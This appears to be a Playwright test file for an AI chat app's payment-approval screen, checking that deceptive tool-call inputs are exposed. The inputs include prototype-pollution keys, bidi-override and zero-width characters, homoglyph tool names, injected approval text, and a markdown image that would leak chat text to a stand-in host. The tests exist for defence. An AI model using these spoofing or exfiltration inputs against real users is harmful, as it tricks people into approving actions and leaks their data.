/** Inputs and questions that are made to deceive: what is shown is what would run. */
import type { Locator, Page } from 'playwright-core';
import { expect, onTestFinished, test } from 'vitest';
import { barriers } from './looks.ts';
import {
  BY_TIMER,
  startServer,
  Visitor,
  type VisitorOptions,
  WAIT_MS,
  withBrowser,
} from './visitor.ts';

withBrowser();

interface ShownCall {
  /** In JSON, as it is. */
  input?: string;
  question?: string;
  toolName?: string;
  digest?: string;
}

/**
 * Gives the page another open approval than the server's. The server refuses much of this
 * before it asks; a page must not depend on that.
 */
async function tell(page: Page, call: ShownCall): Promise<void> {
  const { input, ...rest } = call;
  const changed = (approval: object) => {
    const text = JSON.stringify({ ...approval, ...rest, ...(input && { input: '<input>' }) });
    return input === undefined ? text : text.replace('"<input>"', () => input);
  };
  await page.route(/\/api\/approvals(?:\/[^/]+)?$/, async route => {
    if (route.request().method() !== 'GET') {
      return route.fallback();
    }
    const response = await route.fetch();
    if (!response.ok()) {
      return route.fulfill({ response });
    }
    const body = await response.json();
    const text = Array.isArray(body.approvals)
      ? `{"approvals":[${body.approvals.map(changed).join(',')}]}`
      : changed(body);
    return route.fulfill({ status: 200, contentType: 'application/json', body: text });
  });
}

/** A person who is asked about a payment, and shown something else. */
async function askedAbout(call: ShownCall, options: VisitorOptions = {}): Promise<Visitor> {
  const server = await startServer({ sdk: 7 });
  await server.tell('c', 'u1', 'Send $20 to Sam');
  const visitor = await Visitor.at('about:blank', options);
  onTestFinished(() => visitor.page.unrouteAll({ behavior: 'ignoreErrors' }));
  await tell(visitor.page, call);
  await visitor.page.goto(`${server.url}#chat=c`);
  return visitor;
}

const card = ({ page }: Visitor) => page.getByRole('log').locator('.approval');
const approve = (visitor: Visitor) => card(visitor).getByRole('button', { name: 'Approve' });

test('names of the prototype are names: the page works, and works after a reload', async () => {
  const visitor = await askedAbout({
    toolName: 'constructor',
    input: '{"__proto__":{"a":1},"constructor":"c","toString":"t","hasOwnProperty":3,"amount":20}',
  });
  const { page } = visitor;
  // The chat itself has them, too.
  await page.route('**/api/chat/c', async route => {
    const text = await (await route.fetch()).text();
    const body = text
      .replaceAll('"tool-process_payment"', '"tool-constructor"')
      .replaceAll('"input":{', '"input":{"__proto__":{"x":1},"toString":2,');
    return route.fulfill({ status: 200, contentType: 'application/json', body });
  });
  for (let time = 0; time < 2; time++) {
    await page.reload();
    const names = card(visitor).locator('dt');
    await names.getByText('__proto__').waitFor();
    await names.getByText('constructor').waitFor();
    await names.getByText('toString').waitFor();
    await names.getByText('hasOwnProperty').waitFor();
    // No word of the page's is beside one of them.
    const shown = await names.allInnerTexts();
    expect(shown.filter(name => name.includes('function') || name.includes('['))).toEqual([]);
    await page.getByLabel('Message', { exact: true }).waitFor();
  }
  await page.getByRole('button', { name: /^Inbox/ }).click();
  await page.getByRole('complementary').getByText('hasOwnProperty').waitFor();
});

test('a question that can’t be shown can only be denied, and takes nothing else with it', async () => {
  const deep = `${'{"a":'.repeat(300)}1${'}'.repeat(300)}`;
  const visitor = await askedAbout({ input: `{"amount":20,"note":${deep}}` });
  const { page } = visitor;
  const unshown = card(visitor).getByText('This question can’t be shown');
  await unshown.waitFor();
  // The journal comes late, and says the input once more: the card is not drawn again for that, not even
  // until the record is read again.
  let release = () => {};
  const isReleased = new Promise<void>(resolve => {
    release = resolve;
  });
  await page.route('**/api/chat/c/journal*', async route => {
    await isReleased;
    return route.fallback();
  });
  await page.reload();
  await unshown.waitFor();
  await page.evaluate(() => {
    const offers = { times: 0 };
    Object.assign(window, { offers });
    new MutationObserver(() => {
      offers.times += [...document.querySelectorAll('.approval button')].filter(it =>
        it.textContent.includes('Approve'),
      ).length;
    }).observe(document.body, { childList: true, subtree: true });
  });
  expect(await page.getByRole('button', { name: 'Approve' }).count()).toBe(0);
  const journal = page.waitForResponse('**/api/chat/c/journal*');
  release();
  await (await journal).finished();
  await card(visitor).getByRole('button', { name: 'Deny' }).click();
  await visitor.seesCards('process_payment: denied');
  await visitor.says('What is the weather in London?');
  await visitor.reads(/12°C/);
  expect(await page.evaluate(() => (window as unknown as { offers: unknown }).offers)).toEqual({
    times: 0,
  });
});

test('an entry of the journal that can’t be shown takes nothing else with it', async () => {
  const visitor = await askedAbout({});
  const { page } = visitor;
  await page.route('**/api/chat/c/journal*', async route => {
    const body = await (await route.fetch()).json();
    for (const entry of body.entries) {
      if (entry.seq === 1) {
        // No time at all.
        entry.at = 'never';
      }
      for (const event of entry.events) {
        event.note = 'for \u202emaS\u202c\u200b';
      }
    }
    return route.fulfill({ json: body });
  });
  await page.reload();
  const journal = page.getByRole('list', { name: 'The journal of this chat' });
  await journal.getByText('A part of this conversation can’t be shown.').waitFor();
  await approve(visitor).waitFor();
  // The others are there, and say what they hide.
  const shown = journal.getByRole('listitem').filter({ hasText: 'JSON' }).last();
  await shown.locator('summary').click();
  const raw = await shown.locator('pre').innerText();
  expect(raw).not.toMatch(/[\u202e\u202c\u200b]/);
  expect(raw).toContain('maS');
  expect(raw.split('\n')[1]).toMatch(/^ {2}\S/);
});

test('details of a call write out what they hide', async () => {
  const visitor = await askedAbout({});
  const { page } = visitor;
  await page.route('**/api/chat/c', async route => {
    const text = await (await route.fetch()).text();
    const body = text.replaceAll('"Sam"', '"\\u202emaS\\u202c\\u200b"');
    return route.fulfill({ status: 200, contentType: 'application/json', body });
  });
  await visitor.denies();
  await visitor.seesCards('process_payment: denied');
  await page.route('**/api/chat/c/journal*', async route => {
    const text = await (await route.fetch()).text();
    const body = text.replaceAll('"Sam"', '"\\u202emaS\\u202c\\u200b"');
    return route.fulfill({ status: 200, contentType: 'application/json', body });
  });
  await page.reload();
  await visitor.seesCards('process_payment: denied');
  const denied = visitor.cards('process_payment: denied');
  await denied.getByText('Input and output').click();
  const raw = await denied.locator('pre').first().innerText();
  expect(raw).toContain('maS');
  expect(raw).not.toMatch(/[\u202e\u202c\u200b]/);
});

test('what is not to be seen is written out, and what only looks right is marked', async () => {
  const visitor = await askedAbout({
    question: 'Send 20 USD to \u202emaS\u202c?\u200b',
    toolName: 'process_pаyment',
    input: JSON.stringify({
      amount: 20,
      recipient: 'Sam\u200b\u200b',
      bank: 'Раураl',
      other: 'ѕаѕо',
      account: 'a\nApproved by: Alice',
      greeting: 'Привет, мир',
      name: '山田 Taro さん',
      empty: '',
      nothing: null,
      none: {},
      spaced: ' x',
    }),
  });
  const text = card(visitor).locator('dl');
  const field = (name: string) =>
    text.locator('div', { has: visitor.page.locator('dt', { hasText: new RegExp(`^${name}$`) }) });
  await card(visitor)
    .getByRole('heading', { name: 'Send 20 USD to \\u202EmaS\\u202C?\\u200B' })
    .waitFor();
  expect(await field('recipient').locator('dd').innerText()).toBe('Sam\\u200B×2');
  expect(await field('account').locator('dd').innerText()).toBe('a\\nApproved by: Alice');
  expect(await field('spaced').locator('dd').innerText()).toBe('␣x');
  const turning = field('greeting').locator('dd .untrusted');
  expect(await turning.evaluate(it => getComputedStyle(it).unicodeBidi)).toBe('isolate');
  expect(await field('bank').locator('dd').innerText()).toMatch(/mixed scripts: .*Cyrillic/);
  expect(await field('other').locator('dd').innerText()).toMatch(/looks like other letters/);
  expect(await card(visitor).locator('code').innerText()).toMatch(/mixed scripts/);
  for (const honest of ['greeting', 'name']) {
    expect(await field(honest).locator('mark').count(), honest).toBe(0);
  }
  expect(await field('empty').locator('dd').innerText()).toBe('(empty: "")');
  expect(await field('nothing').locator('dd').innerText()).toBe('(empty: null)');
  expect(await field('none').locator('dd').innerText()).toBe('(empty: {})');
  await visitor.photographs('deceiving');
  expect(await barriers(visitor.page)).toEqual([]);
});

test('numbers are shown to the last digit, and survive the edit of another field', async () => {
  const input =
    '{"amount":9007199254740993,"rate":0.10000000000000000001,"list":[1.0],"recipient":"Sam"}';
  const visitor = await askedAbout({ input });
  const { page } = visitor;
  await card(visitor).getByText('9007199254740993', { exact: true }).waitFor();
  await card(visitor).getByText('0.10000000000000000001', { exact: true }).waitFor();
  await card(visitor).getByRole('button', { name: 'Edit' }).click();
  await page.getByLabel('recipient').fill('Ann "A" \\');
  const sent = page.waitForRequest(request => request.method() === 'POST');
  await visitor.consents(page.getByRole('button', { name: 'Approve this' }));
  expect((await sent).postData()).toContain(
    '"input":{"amount":9007199254740993,"rate":0.10000000000000000001,"list":[1.0],"recipient":"Ann \\"A\\" \\\\"}',
  );
});

test('a field is edited as what it is', async () => {
  const visitor = await askedAbout({ input: '{"amount":20,"recipient":"1","urgent":true}' });
  const { page } = visitor;
  await card(visitor).getByRole('button', { name: 'Edit' }).click();
  for (const [name, text, problem] of [
    ['amount', '"20"', 'This has to be a number, as in JSON.'],
    ['amount', '0x14', 'This has to be a number, as in JSON.'],
    ['urgent', '1', 'This has to be true or false.'],
  ] as const) {
    const before = await page.getByLabel(name).inputValue();
    await page.getByLabel(name).fill(text);
    await visitor.presses(page.getByRole('button', { name: 'Approve this' }));
    await page.getByRole('alert').getByText(problem).waitFor();
    await page.getByLabel(name).fill(before);
  }
  await page.getByLabel('recipient').fill('2');
  const sent = page.waitForRequest(request => request.method() === 'POST');
  await visitor.consents(page.getByRole('button', { name: 'Approve this' }));
  expect((await sent).postData()).toContain('"recipient":"2"');
});

test('an input that is no object is shown whole', async () => {
  const visitor = await askedAbout({ input: '[500,"Mallory","USD",""]' });
  await card(visitor).getByText('"Mallory"').waitFor();
  await card(visitor).getByText('500').waitFor();
  expect(await card(visitor).getByRole('button', { name: 'Edit' }).count()).toBe(0);
});

const looks: [string, VisitorOptions][] = [
  ['desktop', { viewport: { width: 1280, height: 800 } }],
  ['phone', { viewport: { width: 390, height: 664 }, hasTouch: true, isMobile: true }],
  ['phone-on-its-side', { viewport: { width: 844, height: 390 }, hasTouch: true, isMobile: true }],
];

test.each(looks)('a long note pushes nothing out of sight: %s', async (name, look) => {
  const note = `Thanks for lunch. ${'All is fine. '.repeat(4_000)}`;
  const visitor = await askedAbout(
    {
      input: JSON.stringify({
        description: note,
        amount: 20,
        recipient: 'Mallory',
        currency: 'USD',
      }),
    },
    look,
  );
  const isInSight = async () => {
    const { height = 0 } = visitor.page.viewportSize() ?? {};
    for (const part of [
      card(visitor).getByRole('heading', { name: 'Send 20 USD to Sam?' }),
      card(visitor).getByText('20', { exact: true }),
      card(visitor).getByText('Mallory'),
      approve(visitor),
      card(visitor).getByRole('button', { name: 'Deny' }),
    ]) {
      const box = await part.boundingBox();
      expect(box?.y).toBeGreaterThan(0);
      expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThan(height);
      expect(
        await part.evaluate(it => {
          const { left, top, width, height } = it.getBoundingClientRect();
          const hit = document.elementFromPoint(left + width / 2, top + height / 2);
          return it.contains(hit) || hit?.contains(it);
        }),
      ).toBe(true);
    }
  };
  await approve(visitor).waitFor();
  await isInSight();
  await visitor.photographs(`long-note-${name}`);
  // Where there is no room for all fields, they are read to their end first.
  const fields = card(visitor).locator('.ledger-box');
  await fields.evaluate(it => it.scrollTo(0, it.scrollHeight));
  await approve(visitor).and(visitor.page.locator('[aria-disabled=false]')).waitFor();
  await fields.evaluate(it => it.scrollTo(0, 0));
  await isInSight();
  await card(visitor).getByRole('button', { name: 'Show all, 52 kB' }).click();
  await visitor.photographs(`long-note-open-${name}`);
  await approve(visitor).waitFor();
  expect(await barriers(visitor.page)).toEqual([]);
  await card(visitor).getByRole('button', { name: 'Show less' }).click();
  await fields.evaluate(it => it.scrollTo(0, 0));
  await isInSight();
});

test.each(looks)('a long note is edited with the other fields in reach: %s', async (name, look) => {
  const note = `Thanks for lunch. ${'All is fine. '.repeat(4_000)}`;
  const fields = { description: note, amount: 20, recipient: 'Mallory', currency: 'USD' };
  const visitor = await askedAbout({ input: JSON.stringify(fields) }, look);
  const { page } = visitor;
  await card(visitor).getByRole('button', { name: 'Edit' }).click();
  const { height = 0 } = page.viewportSize() ?? {};
  const yes = page.getByRole('button', { name: 'Approve this' });
  const heading = card(visitor).getByRole('heading', { name: 'Send 20 USD to Sam?' });
  const isInSight = async (part: Locator) => {
    const box = await part.boundingBox();
    expect(box?.y).toBeGreaterThan(0);
    expect((box?.y ?? 0) + (box?.height ?? 0)).toBeLessThan(height);
  };
  const form = card(visitor).locator('.edit-fields');
  await form.waitFor();
  await visitor.photographs(`long-note-edited-${name}`);
  // All of the note is there, in a box of a few lines.
  expect(await page.getByLabel('description').inputValue()).toBe(note);
  for (const field of ['amount', 'recipient', 'currency']) {
    await page.getByLabel(field).scrollIntoViewIfNeeded();
    for (const part of [heading, page.getByLabel(field), yes]) {
      await isInSight(part);
    }
  }
  await form.evaluate(it => it.scrollTo(0, it.scrollHeight));
  // Whichever field was looked at last, the whole card is in sight, as it has to be.
  await card(visitor).evaluate(it => it.scrollIntoView({ block: 'nearest' }));
  await yes.and(page.locator('[aria-disabled=false]')).waitFor();
  expect(await barriers(page)).toEqual([]);
  await page.getByLabel('amount').fill('7');
  await form.evaluate(it => it.scrollTo(0, it.scrollHeight));
  const sent = page.waitForRequest(request => request.method() === 'POST');
  await visitor.consents(yes);
  expect(JSON.parse((await sent).postData() ?? '').input).toEqual({ ...fields, amount: 7 });
});

test.each(looks)('a yes needs what is asked in sight, not only its button: %s', async (_, look) => {
  const visitor = await askedAbout({}, look);
  const { page } = visitor;
  const isArmed = approve(visitor).and(page.locator('[aria-disabled=false]'));
  for (const part of ['.question', '.ledger-box']) {
    await isArmed.waitFor();
    await card(visitor)
      .locator(part)
      .evaluate(it => {
        const { left, top, width, height } = it.getBoundingClientRect();
        const cover = document.createElement('div');
        cover.id = 'cover';
        Object.assign(cover.style, { position: 'fixed', zIndex: '99', background: 'white' });
        const place = { left, top, width, height };
        for (const [name, length] of Object.entries(place)) {
          cover.style.setProperty(name, `${length}px`);
        }
        document.body.append(cover);
      });
    await approve(visitor).and(page.locator('[aria-disabled=true]')).waitFor();
    await page.evaluate(() => document.getElementById('cover')?.remove());
  }
  await isArmed.waitFor();
});

const phone = { viewport: { width: 390, height: 664 }, hasTouch: true, isMobile: true };

const isArmed = (visitor: Visitor) =>
  approve(visitor).and(visitor.page.locator('[aria-disabled=false]')).waitFor();

const isUnarmed = (visitor: Visitor) =>
  approve(visitor).and(visitor.page.locator('[aria-disabled=true]')).waitFor();

test('who has zoomed in, and sees a part of the question, says no yes', async () => {
  const visitor = await askedAbout({}, phone);
  const { page } = visitor;
  await isArmed(visitor);
  const devtools = await page.context().newCDPSession(page);
  await devtools.send('Emulation.setPageScaleFactor', { pageScaleFactor: 2 });
  await page.waitForFunction(() => visualViewport?.scale === 2, undefined, BY_TIMER);
  await isUnarmed(visitor);
  // Not only for as long as after any move.
  await page.waitForFunction(
    from => performance.now() - from > 1_000,
    await page.evaluate(() => performance.now()),
    BY_TIMER,
  );
  expect(await approve(visitor).getAttribute('aria-disabled')).toBe('true');
  await visitor.photographs('zoomed-in');
  await devtools.send('Emulation.setPageScaleFactor', { pageScaleFactor: 1 });
  await isArmed(visitor);
});

test('a question whose upper half is scrolled out takes no yes', async () => {
  const visitor = await askedAbout({}, { viewport: { width: 1280, height: 800 } });
  const { page } = visitor;
  await isArmed(visitor);
  /** Which share of the question is above what the conversation shows; scrolls there first, if one is given. */
  const hidden = (share?: number) =>
    card(visitor).evaluate((it, share) => {
      let scroller = it.parentElement;
      while (scroller !== null && !/auto|scroll/.test(getComputedStyle(scroller).overflowY)) {
        scroller = scroller.parentElement;
      }
      const question = it.querySelector('.question');
      if (scroller === null || question === null) {
        throw new Error('nothing scrolls');
      }
      if (document.getElementById('spacer') === null) {
        const spacer = document.createElement('div');
        spacer.id = 'spacer';
        spacer.style.height = '100vh';
        it.closest('[role=log]')?.append(spacer);
      }
      const { top } = scroller.getBoundingClientRect();
      const box = () => question.getBoundingClientRect();
      if (share !== undefined) {
        scroller.scrollTop += box().top + box().height * share - top;
      }
      return (top - box().top) / box().height;
    }, share);
  // The page follows what is new to its end, and what a person does from then on.
  await expect
    .poll(
      async () => {
        await hidden(0.4);
        await page.waitForTimeout(1_200);
        return hidden();
      },
      { timeout: WAIT_MS },
    )
    .toBeCloseTo(0.4, 1);
  // Longer than a button that is in sight takes to be armed.
  expect(await approve(visitor).getAttribute('aria-disabled')).toBe('true');
  await visitor.photographs('scrolled-out');
  await hidden(-0.5);
  await isArmed(visitor);
});

test('a question that is longer than the screen and not folded is read from its beginning', async () => {
  const question = `Send 20 USD to Sam? ${'It is for lunch. '.repeat(120)}And 5,000 USD to Mallory?`;
  const visitor = await askedAbout({ question }, phone);
  const { page } = visitor;
  const box = card(visitor).locator('.question[tabindex]');
  await box.waitFor();
  // As on a page that has no styles for it.
  await box.evaluate(it => {
    const whole = { maxHeight: 'none', overflow: 'visible', flex: 'none' };
    const head = it.closest<HTMLElement>('.head');
    for (const part of [it as HTMLElement, head, it.closest<HTMLElement>('.approval')]) {
      Object.assign(part?.style ?? {}, whole);
    }
    // In one go, so that its beginning is not in sight in between.
    it.closest('.approval')?.querySelector('.consent')?.scrollIntoView();
  });
  await page.waitForFunction(
    from => performance.now() - from > 1_000,
    await page.evaluate(() => performance.now()),
    BY_TIMER,
  );
  expect(await approve(visitor).getAttribute('aria-disabled')).toBe('true');
  const reads = (block: ScrollLogicalPosition) =>
    card(visitor).evaluate((it, block) => it.scrollIntoView({ block }), block);
  await expect
    .poll(
      async () => {
        await reads('start');
        await page.waitForTimeout(200);
        await reads('end');
        await page.waitForTimeout(1_200);
        return approve(visitor).getAttribute('aria-disabled');
      },
      { timeout: WAIT_MS },
    )
    .toBe('false');
});

test('a long question has to be read to its end', async () => {
  const question = `Send 20 USD to Sam? ${'It is for lunch. '.repeat(120)}And 5,000 USD to Mallory?`;
  const visitor = await askedAbout({ question }, { viewport: { width: 390, height: 664 } });
  await card(visitor).locator('.question[tabindex]').waitFor();
  await visitor.photographs('long-question');
  // Until something else that takes as long has happened, it is not armed.
  await visitor.page.waitForFunction(
    from => performance.now() - from > 1_000,
    await visitor.page.evaluate(() => performance.now()),
    BY_TIMER,
  );
  expect(await approve(visitor).getAttribute('aria-disabled')).toBe('true');
  await card(visitor)
    .locator('.question')
    .evaluate(it => it.scrollTo(0, it.scrollHeight));
  await approve(visitor).and(visitor.page.locator('[aria-disabled=false]')).waitFor();
});

test('in Japanese the question stays as it was asked, in the chat and in the inbox', async () => {
  const visitor = await askedAbout(
    { question: 'Send 20 USD to Sam, for a fee of 500 USD?' },
    { locale: 'ja-JP', viewport: { width: 1280, height: 800 } },
  );
  const { page } = visitor;
  await page.getByRole('button', { name: /^受信箱/ }).click();
  for (const place of [page.getByRole('log'), page.getByRole('complementary')]) {
    const heading = place.getByRole('heading', { name: /for a fee of 500 USD\?$/ });
    await heading.waitFor();
    expect(await heading.getAttribute('lang')).toBe('en');
    await place.getByText('参考訳: Sam に $20 を送金').waitFor();
  }
  await visitor.photographs('question-ja');
  expect(await barriers(page)).toEqual([]);
});

test('a picture at another site that a model names is not loaded', async () => {
  const server = await startServer({ sdk: 7 });
  await server.tell('c', 'u1', 'Hello');
  const visitor = await Visitor.at('about:blank');
  const { page } = visitor;
  onTestFinished(() => page.unrouteAll({ behavior: 'ignoreErrors' }));
  await page.route('**/api/chat/c', async route => {
    const text = await (await route.fetch()).text();
    const picture = '![a picture](http://elsewhere.example/p.png?said=hello)';
    const body = text.replace('"text":"You said', `"text":"${picture} You said`);
    expect(body).not.toBe(text);
    return route.fulfill({ status: 200, contentType: 'application/json', body });
  });
  await page.goto(`${server.url}#chat=c`);
  await visitor.reads(/a picture/);
  await visitor.reads(/You said/);
  // Neither asked for, nor kept from being asked for by the policy alone.
  expect(visitor.foreign.filter(url => url.includes('elsewhere'))).toEqual([]);
});

test('a question that has changed is shown afresh, and has to be read again', async () => {
  const server = await startServer({ sdk: 7 });
  await server.tell('c', 'u1', 'Send $20 to Sam');
  const visitor = await Visitor.at('about:blank');
  const { page } = visitor;
  onTestFinished(() => page.unrouteAll({ behavior: 'ignoreErrors' }));
  // As it was asked once: the server has it otherwise by now.
  await tell(page, { question: 'Send 2 USD to Sam?', digest: '0'.repeat(64) });
  await page.goto(`${server.url}#chat=c`);
  await card(visitor).getByRole('heading', { name: 'Send 2 USD to Sam?' }).waitFor();
  await visitor.consents(approve(visitor));

  await card(visitor).getByText('The question has changed since you were shown it.').waitFor();
  await card(visitor).getByRole('heading', { name: 'Send 20 USD to Sam?' }).waitFor();
  await visitor.sees('$1,000');
  await visitor.photographs('changed');
  await visitor.consents(approve(visitor));
  await visitor.seesCards('process_payment: done');
  await visitor.sees('$980');
});

test('the inbox shows a question that has changed afresh, too', async () => {
  const server = await startServer({ sdk: 7 });
  await server.tell('c', 'u1', 'Send $20 to Sam');
  const visitor = await Visitor.at('about:blank');
  const { page } = visitor;
  onTestFinished(() => page.unrouteAll({ behavior: 'ignoreErrors' }));
  await tell(page, { question: 'Send 2 USD to Sam?', digest: '0'.repeat(64) });
  await page.goto(server.url);
  await page.getByRole('button', { name: 'Inbox, 1 waiting' }).click();
  const panel = page.getByRole('complementary');
  await panel.getByRole('heading', { name: 'Send 2 USD to Sam?' }).waitFor();
  const answered = page.waitForResponse(response => response.request().method() === 'POST');
  await visitor.consents(panel.getByRole('button', { name: 'Approve' }));
  expect((await answered).status()).toBe(409);
  await page.unrouteAll({ behavior: 'ignoreErrors' });
  await panel.getByRole('heading', { name: 'Send 20 USD to Sam?' }).waitFor();
  await panel.getByText('The question has changed since you were shown it.').waitFor();
  await visitor.consents(panel.getByRole('button', { name: 'Approve' }));
  await visitor.sees('$980');
});

test.each([6, 7] as const)(
  'every answer brings the digest of what was shown: AI SDK %i',
  async sdk => {
    for (const transport of ['sse', 'bidi'] as const) {
      const server = await startServer({ sdk });
      const visitor = await Visitor.at(server.url, { transport });
      const { page } = visitor;
      await visitor.says('Send $20 to Sam');
      await visitor.seesCards('process_payment: asked');
      await visitor.sawTheEnd();
      const [{ digest = 'none' } = {}] = await server.approvals();
      const sent = page.waitForRequest(request => request.method() === 'POST');
      await visitor.approves();
      expect((await sent).postDataJSON()).toEqual({ approved: true, digest });
      await visitor.seesCards('process_payment: done');
    }
  },
);
